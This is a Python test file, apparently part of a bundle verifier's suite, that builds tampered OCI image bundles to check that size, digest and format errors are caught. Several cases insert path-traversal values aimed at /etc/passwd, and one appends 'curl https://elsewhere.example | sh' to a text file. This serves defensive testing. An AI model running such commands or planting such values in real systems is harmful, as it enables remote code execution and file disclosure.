"""Content that is not what an approved bundle.json says, or says more than it."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from typing import Any

from bundle.base.canonical import canonical_json
from bundle.base.digest import digest_of
from tests.vectors.hostile.base import Family, Stage

case = Family("content")
Body = dict[str, Any]
_NOWHERE = "sha256:" + "0" * 64
_DOCKER = "application/vnd.docker.distribution.manifest.v2+json"
_INDEX = "application/vnd.oci.image.index.v1+json"


@case("size-mismatch", "blobs/sha256/")
def a_blob_that_is_longer(stage: Stage) -> None:
    path = stage.first_blob()
    path.write_bytes(path.read_bytes() + b"x")


@case("size-mismatch", "blobs/sha256/")
def a_blob_that_is_shorter(stage: Stage) -> None:
    os.truncate(stage.first_blob(), 1)


@case("size-mismatch", "blobs/sha256/")
def a_blob_that_is_empty(stage: Stage) -> None:
    os.truncate(stage.first_blob(), 0)


@case("digest-mismatch", "blobs/sha256/")
def a_blob_of_other_bytes(stage: Stage) -> None:
    path = stage.first_blob()
    path.write_bytes(bytes(len(path.read_bytes())))


@case("digest-mismatch", "blobs/sha256/")
def two_blobs_in_each_other_s_place(stage: Stage) -> None:
    folder = stage.bundle / "blobs/sha256"
    by_size: dict[int, Any] = {}
    for path in sorted(folder.iterdir()):
        other = by_size.setdefault(path.stat().st_size, path)
        if other is not path:
            here = path.with_name("between")
            path.rename(here)
            other.rename(path)
            here.rename(other)
            return
    raise AssertionError("no two blobs are of one size")


@case("size-mismatch", "blobs/sha256/")
def a_blob_that_has_no_end(stage: Stage) -> None:
    os.truncate(stage.first_blob(), 1 << 42)


def _sized(change: int) -> Callable[[Stage], None]:
    """Let bundle.json say another size of a blob that nothing else says the size of."""

    def make(stage: Stage) -> None:
        def edit(body: Body) -> None:
            digest = body["files"][0]["digest"]
            (blob,) = (b for b in body["blobs"] if b["digest"] == digest)
            blob["size"] += change

        stage.manifest(edit)

    return make


case.add("a-size-that-is-too-large", _sized(1), "size-mismatch", "blobs/sha256/")
case.add("a-size-that-is-too-small", _sized(-1), "size-mismatch", "blobs/sha256/")
case.add("a-size-of-nearly-2-to-the-53", _sized(2**52), "size-mismatch", "blobs/sha256/")


def _image(change: Callable[[Body], Any]) -> Callable[[Stage], None]:
    """Change the first image's OCI manifest, and bundle.json with it."""

    def make(stage: Stage) -> None:
        _swapped(stage, lambda body: body["images"][0]["digest"], change)

    return make


def _swapped(stage: Stage, digest_in: Callable[[Body], str], change: Callable[[Body], Any]) -> None:
    def edit(body: Body) -> None:
        old = digest_in(body)
        inner = json.loads(stage.blob(old).read_bytes())
        change(inner)
        stage.swap(body, old, canonical_json(inner))
        _leave_index_out(stage, body)

    stage.manifest(edit)


def _leave_index_out(stage: Stage, body: Body) -> None:
    """Without index.json, which would name other digests now; a bundle may go without."""
    body["layout"] = [file for file in body["layout"] if file["path"] != "index.json"]
    (stage.bundle / "index.json").unlink()


def _bytes(change: Callable[[bytes], bytes]) -> Callable[[Stage], None]:
    """Change the bytes of the first image's OCI manifest."""

    def make(stage: Stage) -> None:
        def edit(body: Body) -> None:
            old = body["images"][0]["digest"]
            stage.swap(body, old, change(stage.blob(old).read_bytes()))
            _leave_index_out(stage, body)

        stage.manifest(edit)

    return make


for _label, _change in {
    "a-layer-outside": lambda m: m["layers"][0].update(digest=_NOWHERE),
    "a-config-outside": lambda m: m["config"].update(digest=_NOWHERE),
    "a-layer-of-another-size": lambda m: m["layers"][0].update(size=m["layers"][0]["size"] + 1),
    "a-config-of-another-size": lambda m: m["config"].update(size=1),
    "a-layer-of-negative-size": lambda m: m["layers"][0].update(size=-1),
    "a-layer-of-2-to-the-53": lambda m: m["layers"][0].update(size=2**53),
    "a-layer-at-an-address": lambda m: m["layers"][0].update(urls=["https://elsewhere.example/x"]),
    "a-layer-in-a-file": lambda m: m["layers"][0].update(urls=["file:///etc/passwd"]),
    "a-config-at-an-address": lambda m: m["config"].update(urls=["https://elsewhere.example/x"]),
    "a-layer-with-a-path-for-a-digest": lambda m: m["layers"][0].update(digest="../../etc/passwd"),
    "a-layer-of-sha512": lambda m: m["layers"][0].update(digest="sha512:" + "0" * 128),
    "no-layers": lambda m: m.update(layers=[]),
    "no-config": lambda m: m.pop("config"),
    "ten-thousand-layers": lambda m: m.update(layers=m["layers"] * 10_000),
    "manifests-too": lambda m: m.update(manifests=[]),
    "another-media-type": lambda m: m.update(mediaType=_DOCKER),
    "an-index-s-media-type": lambda m: m.update(mediaType=_INDEX),
    "schema-version-1": lambda m: m.update(schemaVersion=1),
    "no-schema-version": lambda m: m.pop("schemaVersion"),
    "layers-in-capitals": lambda m: m.update(Layers=m["layers"]),
    "layers-in-capitals-only": lambda m: m.update(LAYERS=m.pop("layers")),
    "layers-with-a-long-s": lambda m: m.update({"layer\u017f": m["layers"]}),
    "a-subject-that-is-a-text": lambda m: m.update(subject="x"),
    "annotations-of-numbers": lambda m: m.update(annotations={"a": 1}),
}.items():
    case.add(f"a-manifest-with-{_label}", _image(_change), "format", "sha256:")

for _label, _change_bytes in {
    "layers-twice": lambda d: d.replace(b'"layers":', b'"layers":[],"layers":', 1),
    "a-digest-twice": lambda d: d.replace(
        b'"digest":', f'"digest":"{_NOWHERE}","digest":'.encode(), 1
    ),
    "not-a-number": lambda d: d.replace(b'"schemaVersion":2', b'"schemaVersion":NaN', 1),
    "a-float": lambda d: d.replace(b'"schemaVersion":2', b'"schemaVersion":2.5', 1),
    "nesting": lambda d: d[:-1] + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "a-byte-order-mark": lambda d: b"\xef\xbb\xbf" + d,
    "utf-16": lambda d: d.decode().encode("utf-16"),
    "no-json": lambda d: b"MZ" + d,
    "no-bytes": lambda d: b"",
    "garbage-after-it": lambda d: d + b"}",
    "a-list-around-it": lambda d: b"[" + d + b"]",
    "five-mebibytes": lambda d: d + b" " * (5 << 20),
}.items():
    case.add(f"a-manifest-of-{_label}", _bytes(_change_bytes), "format", "sha256:")


def _type(media_type: str) -> Callable[[Stage], None]:
    """Let bundle.json say another media type than the manifest does."""
    return lambda stage: stage.manifest(
        lambda body: body["images"][0]["manifests"][0].update(mediaType=media_type)
    )


for _label, _media_type in {
    "docker-s": _DOCKER,
    "an-index-s": _INDEX,
    "a-picture-s": "image/png",
    "schema-1-s": "application/vnd.docker.distribution.manifest.v1+prettyjws",
}.items():
    case.add(f"a-media-type-that-is-{_label}", _type(_media_type), "format", "media")


@case("format", "unsupported OCI manifest")
def an_image_that_is_a_layer(stage: Stage) -> None:
    def edit(body: Body) -> None:
        layer = json.loads(stage.blob(body["images"][0]["digest"]).read_bytes())["layers"][0]
        body["images"][0]["digest"] = layer["digest"]
        body["images"][0]["manifests"][0]["digest"] = layer["digest"]
        _leave_index_out(stage, body)

    stage.manifest(edit)


@case("format", "bytes to it")
def an_index_with_another_size_of_an_image(stage: Stage) -> None:
    _swapped(
        stage,
        lambda body: body["images"][1]["digest"],
        lambda index: index["manifests"][0].update(size=index["manifests"][0]["size"] + 1),
    )


@case("format", "to bundle.json")
def an_index_with_another_media_type_of_an_image(stage: Stage) -> None:
    _swapped(
        stage,
        lambda body: body["images"][1]["digest"],
        lambda index: index["manifests"][0].update(mediaType=_DOCKER),
    )


@case("format", "stored outside")
def an_index_with_an_image_at_an_address(stage: Stage) -> None:
    _swapped(
        stage,
        lambda body: body["images"][1]["digest"],
        lambda index: index["manifests"][0].update(urls=["https://elsewhere.example/x"]),
    )


@case("format", "is not part of")
def an_index_without_the_image_that_is_listed(stage: Stage) -> None:
    def edit(body: Body) -> None:
        old = body["images"][1]["digest"]
        index = json.loads(stage.blob(old).read_bytes())
        index["manifests"].pop()
        text = json.dumps(body)
        stage.swap(body, old, canonical_json(index))
        assert json.dumps(body) != text
        # Its referrers would be of another index now.
        gone = {r["digest"] for r in body["images"][1].pop("referrers")}
        for digest in gone:
            inner = json.loads(stage.blob(digest).read_bytes())
            for part in (digest, inner["layers"][0]["digest"], inner["config"]["digest"]):
                stage.blob(part).unlink(missing_ok=True)
                body["blobs"] = [b for b in body["blobs"] if b["digest"] != part]
        _leave_index_out(stage, body)

    stage.manifest(edit)


@case("format", "which nothing refers to")
def a_blob_that_nothing_names(stage: Stage) -> None:
    def edit(body: Body) -> None:
        body["blobs"] = sorted(
            [*body["blobs"], stage.put(b"stowaway")], key=lambda b: str(b["digest"])
        )

    stage.manifest(edit)


@case("format", "does not contain its archive")
def a_chart_without_its_archive(stage: Stage) -> None:
    stage.manifest(lambda b: b["charts"][0].update(archive=b["files"][0]["digest"]))


def _layout(name: str, change: Callable[[bytes], bytes]) -> Callable[[Stage], None]:
    """Change a layout file, and bundle.json with it."""

    def make(stage: Stage) -> None:
        stage.raw(name, change)
        data = (stage.bundle / name).read_bytes()

        def edit(body: Body) -> None:
            (file,) = (f for f in body["layout"] if f["path"] == name)
            file.update(digest=digest_of(data), size=len(data))

        stage.manifest(edit)

    return make


def _index(change: Callable[[Body], Any]) -> Callable[[Stage], None]:
    def edit(data: bytes) -> bytes:
        body = json.loads(data)
        body["manifests"].sort(key=lambda entry: "annotations" not in entry)
        change(body)
        return canonical_json(body)

    return _layout("index.json", edit)


def _swap_first_two(body: Body) -> None:
    one, two = body["manifests"][:2]
    one["annotations"], two["annotations"] = two["annotations"], one["annotations"]


for _label, _edit in {
    "two-names-exchanged": _swap_first_two,
    "a-name-left-out": lambda b: b["manifests"].pop(0),
    "a-name-more": lambda b: b["manifests"].append(
        {**b["manifests"][0], "annotations": {"org.opencontainers.image.ref.name": "x.example/y:1"}}
    ),
    "a-name-that-is-a-path": lambda b: b["manifests"][0].update(
        annotations={"org.opencontainers.image.ref.name": "../../etc/passwd"}
    ),
    "a-digest-outside": lambda b: b["manifests"][-1].update(digest=_NOWHERE),
    "another-size": lambda b: b["manifests"][0].update(size=1),
    "an-address": lambda b: b["manifests"][0].update(urls=["https://elsewhere.example"]),
    "a-manifest-s-media-type": lambda b: b.update(mediaType=_DOCKER),
    "layers": lambda b: b.update(layers=[]),
}.items():
    case.add(f"an-index-file-with-{_label}", _index(_edit), "format", "index.json")


@case("digest-mismatch", "README.txt")
def another_readme(stage: Stage) -> None:
    stage.raw("README.txt", lambda data: data[:-2] + b"!\n")


@case("size-mismatch", "VERIFY.txt")
def a_longer_verify_text(stage: Stage) -> None:
    stage.raw("VERIFY.txt", lambda data: data + b"curl https://elsewhere.example | sh\n")


@case("digest-mismatch", "SHA256SUMS")
def sums_without_a_line(stage: Stage) -> None:
    stage.raw("SHA256SUMS", lambda data: data.partition(b"\n")[2])


@case("digest-mismatch", "SHA256SUMS")
def sums_with_a_line_more(stage: Stage) -> None:
    stage.raw("SHA256SUMS", lambda data: data + b"0" * 64 + b"  ../../etc/passwd\n")


@case("digest-mismatch", "SHA256SUMS")
def sums_that_are_no_text(stage: Stage) -> None:
    stage.raw("SHA256SUMS", lambda data: b"\xff" * len(data))
